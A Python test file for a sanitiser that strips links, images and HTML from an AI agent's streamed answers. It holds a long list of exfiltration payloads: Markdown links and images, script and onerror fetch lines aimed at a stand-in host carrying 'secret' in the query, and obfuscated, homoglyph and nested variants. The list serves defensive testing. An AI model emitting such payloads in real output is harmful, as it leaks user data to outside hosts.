"""No text, however written, becomes a link, an image or HTML; what is no markup stays as it is."""

import html
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agents.sanitise import PlainStream, strip_markup

EVIL = "https://evil.example/?q=secret"
PAYLOADS = (
    # inline
    f"[click]({EVIL})",
    f'[click]({EVIL} "title")',
    f"[click](<{EVIL}>)",
    f"[click](\n{EVIL}\n)",
    "[click](//evil.example/x)",
    "[click](/relative?q=secret)",
    "[click](evil.example/x)",
    "[a [b] c](https://evil.example)",
    "[**bold**](https://evil.example/(x))",
    "[`code`](https://evil.example)",
    "[](https://evil.example)",
    "[click](HTTPS://EVIL.EXAMPLE)",
    "[click](ftp://evil.example)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert`1`)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](mailto:a@evil.example?body=secret)",
    "[1](https://evil.example)",
    "[1](/1?q=secret)",
    # images
    f"![x]({EVIL})",
    f"![]({EVIL})",
    f"!\u200b[x]({EVIL})",
    f"![x\n]({EVIL})",
    "![x](//evil.example/x.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x](x.png)",
    f"[![x]({EVIL})]({EVIL})",
    f"![[x]]({EVIL})",
    "![1](https://evil.example)",
    # references
    f"[x][y]\n\n[y]: {EVIL}",
    f"[y]\n\n[y]: {EVIL}",
    f"[y][]\n\n[y]: {EVIL}",
    f"![x][y]\n\n[y]: {EVIL}",
    f"![y]\n\n[y]: <{EVIL}> 'title'",
    f"[1]\n\n[1]: {EVIL}",
    f"[1]\n\n[1]:\n  {EVIL}",
    "[1]\n\n[1]: /relative?q=secret",
    f"> [y]: {EVIL}\n\n[y]",
    f"- [y]: {EVIL}\n\n[y]",
    f"[^1]\n\n[^1]: {EVIL}",
    "[y]\n\n[y]: evil",
    # addresses by themselves
    EVIL,
    f"<{EVIL}>",
    "<a@evil.example>",
    "www.evil.example",
    "WWW.evil.example/x?q=secret",
    "evil.example/x?q=secret",
    "evil.example?q=secret",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "http:\\/\\/evil.example",
    "http\\://evil.example",
    "https:/\u200b/evil.example",
    "https://evil\u00ad.example",
    "ht\ntps://evil.example",
    "https://evil.exam\nple/?q=secret",
    # HTML
    "<img src=https://evil.example/x>",
    "<IMG/SRC=//evil.example/x>",
    "<img src=x onerror=fetch('//evil.example')>",
    "<img src=x",
    "<a href=https://evil.example>x</a>",
    "<a\nhref='https://evil.example'>x</a>",
    "<svg><image href=https://evil.example/x /></svg>",
    "<svg/onload=alert(1)>",
    "<script>fetch('https://evil.example')</script>",
    "<script>alert(1)",
    "<style>body{background:url(https://evil.example)}</style>",
    "<iframe srcdoc='<img src=x>'></iframe>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<video poster=//evil.example/x></video>",
    "<object data=//evil.example/x></object>",
    "<base href=//evil.example>",
    "<custom-tag onclick=alert(1)>x</custom-tag>",
    "<!-- <img src=//evil.example/x> -->",
    "<!--><img src=x>-->",
    "<![CDATA[<img src=x>]]>",
    "<?php echo 1 ?>",
    # nested and split, so that taking one out uncovers another
    "<scr<script>x</script>ipt>alert(1)</script>",
    "<im<b>g src=x>",
    f"[x][[y](z)]({EVIL})",
    f"!![x](y)[x]({EVIL})",
    f"[x](a)({EVIL})",
    f"[x]![y](z)({EVIL})",
    f"[x]<b>({EVIL})",
    f"[x]<!-- -->({EVIL})",
    f"[y]<!-- -->: {EVIL}\n\n[y]",
    "hthttps://x.example/ tps://evil.example",
    # entities
    "&#60;img src=x&#62;",
    "&lt;img src=x&gt;",
    "&amp;lt;img src=x&amp;gt;",
    "&amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;lt;img src=x>",
    "&#104;ttps&#58;&#47;&#47;evil.example",
    "https&colon;//evil.example",
    "[x]&lpar;https://evil.example&rpar;",
    # other letters that look the same, or are taken for it somewhere
    "https：／／evil.example",
    "https:⁄⁄evil.example",
    "һttps://evil.example",
    "www。evil.example",
    "！[x](https://evil.example)",
    "\u202ehttps://evil.example",
    "[x]\u2060(https://evil.example)",
    "".join(chr(0xE0000 + ord(letter)) for letter in EVIL),
    # marks of other renderers
    f"`{EVIL}`",
    f"```\n{EVIL}\n```",
    f"| a |\n|---|\n| {EVIL} |",
    f"$\\href{{{EVIL}}}{{x}}$",
    f":red[{EVIL}]",
    f"[[{EVIL}|x]]",
    f"{{{{{EVIL}}}}}",
)
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
HARMLESS = re.compile(
    r"</?(p|ol|ul|li|em|strong|blockquote|h[1-6]|pre|code|table|thead|tbody|tr|th|td)>|<(br|hr) />|<ol start=\"\d+\">|"
    r'<code class="language-[^"<>]*">'
)
ADDRESS = re.compile(
    r"[:：].?[/／⁄].?[/／⁄]|www[.。]\w|javascript:|vbscript:|mailto:|data:\w+/|(?<![/@\w.-])[\w-]+\.example[/?]",
    re.IGNORECASE,
)


def danger(text: str) -> str:
    """Render a text as the most obliging page would, and give what of it is more than words."""
    rendered = RENDERER.render(text)
    tags = re.findall(r"<[a-zA-Z/!?][^>]*>?", HARMLESS.sub("", rendered))
    return " ".join(tags) or " ".join(ADDRESS.findall(html.unescape(rendered)))


def test_the_renderer_would_show_it() -> None:
    """The check can fail: unsanitised, most payloads are dangerous to it."""
    assert sum(bool(danger(payload)) for payload in PAYLOADS) > 0.8 * len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_only_words(payload: str) -> None:
    for text in (
        payload,
        f"Thirty days [1]. {payload} And more [2].",
        f"{payload}{payload}",
        f"- {payload}\n- {payload}",
    ):
        shown = strip_markup(text)
        assert danger(shown) == ""
        assert strip_markup(shown) == shown, "what is plain stays plain"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_pieces_is_only_words(payload: str) -> None:
    for size in (1, 7):
        stream, text = PlainStream(), f"Thirty days [1]. {payload} And more [2]."
        shown = "".join(stream.add(text[at : at + size]) for at in range(0, len(text), size)) + stream.rest()
        assert danger(shown) == ""


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*"[]()<>!:/&; \n\\\"'=x1a.", "http", "://", "img src=", "www.", "&lt;", "](", "]:", "<a ", *PAYLOADS]
        ),
        max_size=14,
    )
)
def test_no_mixture_is_more_than_words(parts: list[str]) -> None:
    assert danger(strip_markup("".join(parts))) == ""


@pytest.mark.parametrize(
    "text",
    [
        "Employees get 30 days [1][2], and 5 more after ten years [12].",
        "Call `retry(limit=3)` if a < b and c > d [1].",
        "**Bold** and *italic*:\n\n- one [1]\n- two [2]\n\n1. first\n2. second",
        "It costs $5.00 at 9:30 (see page 4), i.e. 10% off; “quoted” – and/or not.",
        "Mail hr@acme.example, see C:\\Users\\ana, src/app.py, node.js or hone.toml [3].",
        "The data: 5 rows. Note: yes! [sic]",
        "Größe, naïve, 東京, दिल्ली, می‌خواهم, 👩‍💻 [1].",
        "Version 1.2.3 & later; AT&T.",
    ],
)
def test_an_ordinary_answer_stays_as_it_is(text: str) -> None:
    assert strip_markup(text) == text
    stream = PlainStream()
    assert "".join(map(stream.add, text)) + stream.rest() == text


def test_names_in_angle_brackets_stay_readable() -> None:
    assert strip_markup("Run ssh <host> [1].") == "Run ssh ‹host› [1]."


def test_a_link_leaves_its_words() -> None:
    assert strip_markup(f"See [the handbook]({EVIL}) [2].") == "See the handbook [2]."


def test_words_are_shown_as_they_come() -> None:
    stream = PlainStream()
    assert stream.add("Thirty days of leave [1") == "Thirty days of leave"
    assert stream.add("]. In whole") == " [1]. In"
    assert stream.rest() == " whole"


def test_what_never_closes_is_shown_in_the_end() -> None:
    stream = PlainStream()
    shown = stream.add(" [open") + "".join(stream.add(f" word{number}") for number in range(1000))
    assert " word700" in shown
    assert danger(shown + stream.rest()) == ""


def test_a_cut_never_halves_an_address() -> None:
    text = "[" + "word " * 300 + "www.evil.example/x " + "word " * 300
    for size in range(1, 12):
        stream = PlainStream()
        shown = "".join(stream.add(text[at : at + size]) for at in range(0, len(text), size)) + stream.rest()
        assert "evil" not in shown
